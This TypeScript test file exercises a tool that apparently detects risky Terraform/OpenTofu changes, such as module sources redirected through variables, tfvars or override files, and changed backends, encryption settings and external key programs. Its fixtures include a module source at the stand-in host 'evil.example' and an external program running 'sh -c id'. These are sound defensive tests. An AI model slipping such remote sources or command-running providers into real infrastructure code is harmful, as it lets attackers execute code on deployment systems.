import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Files } from '../../src/git/memory/objects.ts';
import {
  type Change,
  createLooker,
  data,
  external,
  type LookAs,
  type Looker,
  uses,
} from '../support/first-look.ts';

/*
 * OpenTofu (and Terraform from 1.15 on) evaluates expressions before it starts: sources of modules, backends, encryption. Each story says
 * what a change of such a value brings, and what its twin says that compares text alone.
 */
let looker: Looker;
beforeAll(async () => {
  looker = await createLooker();
});
afterAll(() => looker.close());

const tofu: LookAs = { settings: { runner: 'opentofu' } };
const module = (source: string, more = '') => `module "m" {\n  source = ${source}\n${more}}\n`;
const locals = (...lines: readonly string[]) => `locals {\n${lines.map((line) => `  ${line}\n`).join('')}}\n`;
const variable = (name: string, ...lines: readonly string[]) =>
  `variable "${name}" {\n${lines.map((line) => `  ${line}\n`).join('')}}\n`;
const program = external('sh', '-c', 'id');
const known: Files = { 'providers.tf': '', 'live/providers.tf': 'provider "external" {}\n' };

const encryption = `terraform {
  encryption {
    key_provider "pbkdf2" "k" {
      passphrase = var.secret
    }
    method "aes_gcm" "m" {
      keys = key_provider.pbkdf2.k
    }
    state {
      method = method.aes_gcm.m
    }
  }
}
`;

interface Story {
  readonly name: string;
  readonly base: Files;
  readonly change: Change;
  readonly finds: readonly string[];
  /** What text alone finds. */
  readonly byText?: readonly string[];
  readonly as?: LookAs;
}

/** A folder that is called so, letter by letter. */
const odd = ['live/$', '{local.which}'].join('');
const evil = 'git::https://evil.example/x.git';

const sources: readonly Story[] = [
  {
    name: 'a local that is a source',
    base: {
      'live/m.tf': module('local.src'),
      'live/l.tf': locals('src = "../mods/m1"'),
      'mods/m1/main.tf': data,
    },
    change: { 'live/l.tf': locals(`src = "${evil}"`) },
    finds: [`module live/m.tf:1 ${evil}`],
  },
  {
    name: 'the default of a variable in a ref',
    base: {
      'live/m.tf': module(`"${evil}?ref=@{var.ref}"`),
      'live/v.tf': variable('ref', 'default = "v1"'),
    },
    change: { 'live/v.tf': variable('ref', 'default = "evil"') },
    finds: [`module live/m.tf:1 ${evil}?ref=evil`],
  },
  {
    name: 'a new terraform.tfvars for a ref',
    base: {
      'live/m.tf': module(`"${evil}?ref=@{var.ref}"`),
      'live/v.tf': variable('ref', 'type = string', 'default = "v1"'),
    },
    change: { 'live/terraform.tfvars': 'ref = "evil"\n' },
    finds: [`module live/m.tf:1 ${evil}?ref=evil`, 'variable_file live/terraform.tfvars terraform.tfvars'],
    byText: ['variable_file live/terraform.tfvars terraform.tfvars'],
  },
  {
    name: 'a value in JSON for a map',
    base: {
      'live/m.tf': module('var.sources["m"]'),
      'live/v.tf': variable('sources', 'default = { m = "../mods/m1" }'),
      'mods/m1/main.tf': data,
    },
    change: { 'live/x.auto.tfvars.json': `{"sources": {"m": "${evil}"}}` },
    finds: [`module live/m.tf:1 ${evil}`, 'variable_file live/x.auto.tfvars.json x.auto.tfvars.json'],
    byText: ['variable_file live/x.auto.tfvars.json x.auto.tfvars.json'],
  },
  {
    name: 'a file of variables without a name',
    base: {
      'live/m.tf': module('var.src'),
      'live/v.tf': variable('src', 'default = "../mods/m1"'),
      'mods/m1/main.tf': data,
    },
    change: { 'live/.auto.tfvars': `src = "${evil}"\n` },
    finds: [`module live/m.tf:1 ${evil}`, 'variable_file live/.auto.tfvars .auto.tfvars'],
    byText: ['variable_file live/.auto.tfvars .auto.tfvars'],
  },
  {
    name: 'a version',
    base: {
      'live/m.tf': module('"acme/vpc/aws"', '  version = local.v\n'),
      'live/l.tf': locals('v = "1.2.3"'),
    },
    change: { 'live/l.tf': locals('v = "6.6.6"') },
    finds: ['module live/m.tf:1 acme/vpc/aws 6.6.6'],
  },
  {
    name: 'what a caller gives a module whose call it is',
    base: {
      'live/m.tf': uses('../mods/wrapper', '  src = "../m1"\n'),
      'mods/wrapper/main.tf': `${variable('src')}${module('var.src')}`,
      'mods/m1/main.tf': data,
    },
    change: { 'live/m.tf': uses('../mods/wrapper', `  src = "${evil}"\n`) },
    finds: [`module mods/wrapper/main.tf:3 ${evil}`],
  },
  {
    name: 'a module of the repository that an expression leads to now',
    base: {
      ...known,
      'live/m.tf': module('"../mods/@{local.which}"'),
      'live/l.tf': locals('which = "m1"'),
      'mods/m1/main.tf': data,
    },
    change: { 'live/l.tf': locals('which = "m2"'), 'mods/m2/main.tf': program },
    finds: ['program mods/m2/main.tf:1 data.external.ids'],
  },
  {
    name: 'a folder whose name looks like an expression',
    base: {
      ...known,
      'live/m.tf': module('"./@{local.which}"'),
      'live/l.tf': locals('which = "m1"'),
      'live/m1/main.tf': data,
    },
    change: { 'live/m.tf': module('"./@{"$"}{local.which}"'), [`${odd}/main.tf`]: program },
    finds: [`program ${odd}/main.tf:1 data.external.ids`],
  },
  {
    name: 'a local that an override file says anew',
    base: {
      'live/m.tf': module('local.src'),
      'live/l.tf': locals('src = "../mods/m1"'),
      'mods/m1/main.tf': data,
    },
    change: { 'live/override.tf': locals(`src = "${evil}"`) },
    finds: ['override_file live/override.tf override.tf', `module live/m.tf:1 ${evil}`],
    byText: ['override_file live/override.tf override.tf'],
  },
  {
    name: 'JSON syntax',
    base: {
      'live/m.tf.json': '{"module": {"m": {"source": "@{local.src}"}}}',
      'live/l.tf.json': '{"locals": {"src": "../mods/m1"}}',
      'mods/m1/main.tf': data,
    },
    change: { 'live/l.tf.json': `{"locals": {"src": "${evil}"}}` },
    finds: [`module live/m.tf.json:1 ${evil}`],
  },
  {
    name: 'what the variable files of the project say',
    base: {
      'live/m.tf': module('var.src'),
      'live/v.tf': variable('src', 'default = "../mods/m1"'),
      'env/prod.tfvars': 'src = "../mods/m1"\n',
      'mods/m1/main.tf': data,
    },
    change: { 'env/prod.tfvars': `src = "${evil}"\n` },
    as: { settings: { runner: 'opentofu', varFiles: ['../env/prod.tfvars'] } },
    finds: [`module live/m.tf:1 "${'$'}{var.src}"`],
  },
];

const settings: readonly Story[] = [
  {
    name: 'a backend',
    base: {
      'live/b.tf': 'terraform {\n  backend "s3" {\n    key = local.key\n  }\n}\n',
      'live/l.tf': locals('key = "live"'),
    },
    change: { 'live/l.tf': locals('key = "other"') },
    finds: ['backend live/b.tf:2 s3'],
  },
  {
    name: 'a backend by a file of variables',
    base: {
      'live/b.tf': 'terraform {\n  backend "s3" {\n    key = "@{var.env}/state"\n  }\n}\n',
      'live/v.tf': variable('env', 'default = "dev"'),
    },
    change: { 'live/a.auto.tfvars': 'env = "prod"\n' },
    finds: ['variable_file live/a.auto.tfvars a.auto.tfvars', 'backend live/b.tf:2 s3'],
    byText: ['variable_file live/a.auto.tfvars a.auto.tfvars'],
  },
  {
    name: 'a cloud block',
    base: {
      'live/b.tf': 'terraform {\n  cloud {\n    workspaces {\n      name = local.name\n    }\n  }\n}\n',
      'live/l.tf': locals('name = "live"'),
    },
    change: { 'live/l.tf': locals('name = "other"') },
    finds: ['backend live/b.tf:2 cloud'],
  },
  {
    name: 'the backend of a new project that is by its value another one’s',
    base: { 'other/b.tf': 'terraform {\n  backend "s3" {\n    key = "other"\n  }\n}\n', 'live/main.tf': '' },
    change: {
      'fresh/b.tf': `terraform {\n  backend "s3" {\n    key = local.key\n  }\n}\n${locals('key = "other"')}`,
    },
    finds: ['backend fresh/b.tf:2 s3'],
  },
  {
    name: 'a passphrase of encryption',
    base: {
      'live/e.tf': encryption,
      'live/v.tf': variable('secret', 'default = "one"'),
    },
    change: { 'live/v.tf': variable('secret', 'default = "two"') },
    finds: ['backend live/e.tf:2 encryption'],
  },
];

const keyProgram = `terraform {
  encryption {
    key_provider "external" "k" {
      command = ["sh", "./keys.sh"]
    }
  }
}
`;

describe('a program that gives keys for encryption', () => {
  it('is one that runs', async () => {
    expect(await looker.brings({ 'live/e.tf': keyProgram }, {}, [], tofu)).toEqual([
      'program live/e.tf:3 key_provider.external.k',
      'backend live/e.tf:2 encryption',
    ]);
  });

  it('is another one when the file that it names changed', async () => {
    const base = { 'live/e.tf': keyProgram, 'live/keys.sh': 'one' };
    expect(await looker.brings({ 'live/keys.sh': 'two' }, base, [], tofu)).toEqual([
      'program live/e.tf:3 key_provider.external.k',
    ]);
  });
});

describe('what cannot be worked out', () => {
  const base: Files = {
    'live/m.tf': module('"../mods/@{var.which}"'),
    'live/v.tf': variable('which', 'type = string'),
    'mods/m1/main.tf': data,
  };

  it('brings nothing while all that feeds it stays', async () => {
    expect(await looker.brings({ 'live/other.tf': 'locals {\n  a = 1\n}\n' }, base, [], tofu)).toEqual([]);
  });

  it.each<readonly [string, Change]>([
    ['its variable', { 'live/v.tf': variable('which', 'type = any') }],
    ['its text', { 'live/m.tf': module('"../mods/@{var.which}/x"') }],
  ])('is found when what feeds it changes: %s', async (_what, change) => {
    expect((await looker.brings(change, base, [], tofu)).map((line) => line.split(':')[0])).toEqual([
      'module live/m.tf',
    ]);
  });

  it.each<readonly [string, Files, Change]>([
    [
      'a value of a map whose key is not known',
      {
        'live/m.tf': module('{ (var.which) = local.src }["a"]'),
        'live/l.tf': locals('src = "../mods/m1"'),
      },
      { 'live/l.tf': locals(`src = "${evil}"`) },
    ],
    [
      'the default of a variable that is given null',
      {
        'live/m.tf': module('var.src'),
        'live/s.tf': variable('src', 'nullable = false', 'default = "../mods/m1"'),
        'live/terraform.tfvars': 'src = null\n',
      },
      { 'live/s.tf': variable('src', 'nullable = false', `default = "${evil}"`) },
    ],
    [
      'the default of a variable whose caller may give null',
      {
        'live/m.tf': uses('../wrap', '  src = var.which\n'),
        'wrap/w.tf': variable('src', 'nullable = false', 'default = "../mods/m1"') + module('var.src'),
      },
      {
        'wrap/w.tf': variable('src', 'nullable = false', `default = "${evil}"`) + module('var.src'),
      },
    ],
    [
      'which of two variables has which value',
      {
        'live/m.tf': module('"@{var.a}@{var.which}@{var.b}"'),
        'live/s.tf': variable('a', 'default = "x"') + variable('b', 'default = "y"'),
      },
      { 'live/s.tf': variable('a', 'default = "y"') + variable('b', 'default = "x"') },
    ],
  ])('is found when what feeds it from afar changes: %s', async (_what, more, change) => {
    const found = await looker.brings(change, { ...base, 'live/m.tf': '', ...more }, [], tofu);
    expect(found.filter((line) => line.startsWith('module '))).toHaveLength(1);
  });

  it.each([
    ['a function that may read files', 'locals {\n  src = file("src.txt")\n}\n'],
    ['a circle', 'locals {\n  src = local.b\n  b = local.src\n}\n'],
    ['a local that is there twice', 'locals {\n  src = "a"\n}\nlocals {\n  src = "b"\n}\n'],
    ['what only a plan knows', 'locals {\n  src = data.x.y.z\n}\n'],
  ])('may be fed by any file of the tree: %s', async (_what, text) => {
    const unclear = { 'live/m.tf': module('local.src'), 'live/l.tf': text };
    expect(await looker.brings({ 'notes.txt': 'x' }, unclear, [], tofu)).toEqual([
      `module live/m.tf:1 "${['$', '{local.src}'].join('')}"`,
    ]);
    expect(await looker.brings({}, unclear, [], tofu)).toEqual([]);
  });

  it('says nothing of a variable that the server may set', async () => {
    const set: LookAs = { settings: { runner: 'opentofu', env: { TF_VAR_which: 'm1' } } };
    const evilBeside = { 'mods/m1/main.tf': `${data}${program}`, 'live/p.tf': 'provider "external" {}\n' };
    expect(await looker.brings(evilBeside, base, [], set)).toContain(
      'program mods/m1/main.tf:4 data.external.ids',
    );
  });
});

describe.each([
  ['sources of modules', sources],
  ['settings', settings],
] as const)('values that change %s', (_what, stories) => {
  it.each(stories)('are found: $name', async ({ base, change, finds, as = tofu, name }) => {
    const dir = name.includes('new project') ? 'fresh' : 'live';
    expect(await found(base, change, as, dir)).toEqual(finds);
  });

  it.each(stories)(
    'twin, by text alone nothing is: $name',
    async ({ base, change, byText = [], as = tofu, name }) => {
      const dir = name.includes('new project') ? 'fresh' : 'live';
      expect(await found(base, change, { ...as, byText: true }, dir)).toEqual(byText);
    },
  );
});

const found = async (base: Files, change: Change, as: LookAs, dir: string): Promise<readonly string[]> => {
  if (dir === 'live') return looker.brings(change, base, [], as);
  const head = { ...base, ...change } as Files;
  return (await looker.look(base, head, dir, [], as)).map(
    ({ kind, path, line, subject }) => `${kind} ${path}${line === null ? '' : `:${line}`} ${subject}`,
  );
};
